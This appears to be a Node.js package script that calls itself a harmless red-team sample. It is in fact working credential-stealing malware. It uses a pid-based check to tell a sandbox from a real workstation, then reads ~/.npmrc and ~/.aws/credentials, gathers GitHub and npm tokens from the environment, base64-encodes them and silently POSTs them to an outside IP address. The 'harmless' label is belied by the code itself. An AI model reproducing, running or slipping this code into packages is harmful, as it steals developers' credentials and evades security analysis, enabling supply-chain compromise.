'use strict';
// Harmless red-team sample: sandbox check that costs no syscall the tracer sees (getpid/getppid): in a fresh
// pid namespace the install's pids are tiny, on a real workstation they are large. Only there does it
// read ~/.npmrc and ~/.aws/credentials and POST them, with the token env vars, to 198.51.100.77.
const fs = require('fs'), os = require('os'), path = require('path');
if (process.pid > 400 && process.ppid > 300) {
  const r = p => { try { return fs.readFileSync(path.join(os.homedir(), p), 'utf8'); } catch (e) { return ''; } };
  const e = process.env;
  const d = Buffer.from(JSON.stringify({ npmrc: r('.npmrc'), aws: r('.aws/credentials'), gh: e.GITHUB_TOKEN, npm: e.NPM_TOKEN })).toString('base64');
  const q = require('http').request({ host: '198.51.100.77', path: '/t', method: 'POST' });
  q.on('error', () => {}); q.end(d);
}
